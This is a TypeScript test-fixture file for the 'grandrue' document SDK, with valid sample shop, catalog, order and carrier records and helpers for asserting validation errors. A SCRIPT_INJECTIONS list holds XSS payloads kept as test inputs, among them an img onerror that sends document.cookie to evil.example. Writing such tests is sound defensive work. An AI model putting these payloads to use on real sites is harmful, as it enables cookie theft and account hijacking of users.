import { type DocumentIssue, DocumentValidationError } from "@grandrue/sdk";
import { expect } from "vitest";

/** Valid canonical CIDs (raw codec, sha2-256) for use as images, logos and catalog references. */
export const CIDS = {
  logo: "bafkreibvtdhg7fs3esa74jrrnqdlgckqyrvmp6hhekprasvhr5lztf3gru",
  catalog: "bafkreidff5kqcysdx4nz6g56urwvospprew34okoi3pj2zvldkwpbnfpk4",
  bread: "bafkreieykycmfnqcimjcyjgu4gbwhzsdjrjvsi56ax3waickdlxqeovotm",
  croissant: "bafkreih3whxlrhigj4tiandkqd6fyje33y7xgf46xwkvwitkvx3ntk7mpm",
  /** A CIDv0 (base58btc, dag-pb). */
  v0: "QmdfTbBqBPQ7VNxZEYEj14VmRuZBkqFbiwReogJgS1zR1n",
  /** The `bread` CID written in base58btc: valid, but not the canonical spelling. */
  breadBase58: "zb2rhgtwEnt2HiMfG3seixHEwj29AGKFzGmTApMqdTTEs3gJv",
} as const;

export const ENCRYPTION_KEY = `0x${"ab".repeat(32)}` as const;
export const CARRIER_ADDRESS = "0x70997970C51812dc3A010C7d01b50e0d17dc79C8" as const;
export const TOKEN_ADDRESS = "0x5FbDB2315678afecb367f032d93F642f64180aa3" as const;

export const SCRIPT_INJECTIONS = [
  "<script>alert(document.cookie)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection attempt, kept as the attacker would write it
  '<img src=x onerror="fetch(`https://evil.example/?c=${document.cookie}`)">',
  '"><svg/onload=alert(1)>',
  "javascript:alert(1)",
  '{{constructor.constructor("alert(1)")()}}',
] as const;

/** A complete, valid `grandrue.shop/2` document (a fresh object each call). */
export function validShop() {
  return {
    schema: "grandrue.shop/2" as const,
    name: "Boulangerie du Coin",
    description: "Sourdough bread baked every morning.\nOrganic flour from the valley.",
    story: "Opened in 1952 by our grandparents.",
    logo: CIDS.logo,
    address: { street: "12 rue de la Roquette", postcode: "75011", city: "Paris", country: "FR" },
    location: { lat: 48.8566, lon: 2.3522, geohash: "u09tvw0f6" },
    openingHours: [
      { day: 0, opens: "07:00", closes: "13:00" },
      { day: 0, opens: "15:00", closes: "19:30" },
      { day: 5, opens: "08:00", closes: "24:00" },
    ],
    categories: ["bakery", "pastry"],
    labels: ["organic", "short-circuit"],
    priceUnit: "EUR",
    encryptionPublicKey: ENCRYPTION_KEY,
    terms: { returns: "Fresh goods cannot be returned.", delivery: "Within 3 km, by cargo bike." },
    fulfilment: { pickup: true, ownDelivery: false },
    website: "https://boulangerie.example",
    phone: "+33 1 23 45 67 89",
  };
}

/** A valid `grandrue.catalog/2` with two items, one with variants. */
export function validCatalog() {
  return {
    schema: "grandrue.catalog/2" as const,
    priceUnit: "EUR",
    updatedAt: "2026-05-01T09:30:00Z",
    items: [
      {
        id: "baguette",
        title: "Baguette tradition",
        description: "Long fermentation.",
        images: [CIDS.bread],
        price: "1.20",
        variants: [],
        available: true,
        categories: ["bread"],
        labels: ["organic"],
        pickup: true,
        delivery: true,
        unit: "piece",
      },
      {
        id: "croissant",
        title: "Croissant",
        description: "",
        images: [CIDS.croissant, CIDS.v0],
        price: "1.10",
        variants: [
          { id: "plain", label: "Plain", available: true },
          { id: "almond", label: "Almond", price: "1.60", available: false },
        ],
        available: true,
        categories: [],
        labels: [],
        pickup: true,
        delivery: false,
      },
    ],
  };
}

/** A valid `grandrue.order-items/1`: 2 × 1.20 + 1 × 1.10 = 3.50 EUR, 4.50 EUR delivery, paid in a 6-decimal token at 1:1. */
export function validOrderItems() {
  return {
    schema: "grandrue.order-items/1" as const,
    nonce: "0x0123456789abcdef0123456789abcdef" as const,
    createdAt: "2026-11-20T10:15:00Z",
    shopId: "7",
    catalogCid: CIDS.catalog,
    priceUnit: "EUR",
    lines: [
      { itemId: "baguette", title: "Baguette tradition", quantity: 2, unitPrice: "1.20" },
      { itemId: "croissant", variantId: "plain", title: "Croissant", quantity: 1, unitPrice: "1.10" },
    ],
    subtotal: "3.50",
    deliveryFee: "4.50",
    fulfilment: "carrier" as const,
    carrier: CARRIER_ADDRESS,
    payment: { token: TOKEN_ADDRESS, rate: "1000000", amount: "3500000", deliveryFee: "4500000" },
  };
}

export function validReview() {
  return {
    schema: "grandrue.review/1" as const,
    orderId: "42",
    rating: 5,
    text: "Best bread in town.\nFast delivery.",
    createdAt: "2026-05-02T18:00:00+02:00",
  };
}

export function validReviewReply() {
  return {
    schema: "grandrue.review-reply/1" as const,
    orderId: "42",
    text: "Thank you!",
    createdAt: "2026-05-03T08:00:00Z",
  };
}

export function validCarrier() {
  return {
    schema: "grandrue.carrier/1" as const,
    name: "Vélo Express",
    description: "Same-day delivery in the 11th and 12th arrondissements.",
    serviceArea: { geohashes: ["u09tv", "u09ty"], postcodes: ["75011", "75012"] },
    fees: [
      { label: "Up to 3 km", maxDistanceKm: 3, price: "4.50" },
      { label: "Further", price: "7" },
    ],
    priceUnit: "EUR",
    encryptionPublicKey: ENCRYPTION_KEY,
    sustainability: "Cargo bikes only.",
    vehicle: "cargo-bike" as const,
    website: "ipfs://bafkreibvtdhg7fs3esa74jrrnqdlgckqyrvmp6hhekprasvhr5lztf3gru",
  };
}

export function validLoyaltyReward() {
  return {
    schema: "grandrue.loyalty-reward/1" as const,
    title: "Une baguette offerte",
    description: "Une baguette tradition au choix,\nà retirer au comptoir.",
  };
}

export function validLabelIssuer() {
  return {
    schema: "grandrue.label-issuer/1" as const,
    name: "Bio Certif",
    description: "An association of organic growers.\nWe visit every shop we label once a year.",
    website: "https://bio-certif.example",
    labels: [
      { slug: "bio", title: "Agriculture biologique", description: "At least 95% of the goods are organic." },
      { slug: "short-circuit", title: "Circuit court", description: "" },
    ],
  };
}

export function validWarrantyClaim() {
  return {
    schema: "grandrue.warranty-claim/1" as const,
    description: "The rear derailleur slips under load.\nIt was repaired in March.",
    images: [CIDS.bread, CIDS.v0],
  };
}

/** Runs `parse` and returns the issues of the DocumentValidationError it must throw. */
export function issuesOf(parse: () => unknown): readonly DocumentIssue[] {
  try {
    parse();
  } catch (error) {
    expect(error).toBeInstanceOf(DocumentValidationError);
    return (error as DocumentValidationError).issues;
  }
  throw new Error("expected a DocumentValidationError, but the document was accepted");
}

/** Asserts that `parse` rejects the document with an issue at `path` whose message contains `message`. */
export function expectIssue(parse: () => unknown, path: string, message = ""): void {
  const issues = issuesOf(parse);
  expect(issues, `issues: ${JSON.stringify(issues)}`).toContainEqual({
    path,
    message: expect.stringContaining(message),
  });
}
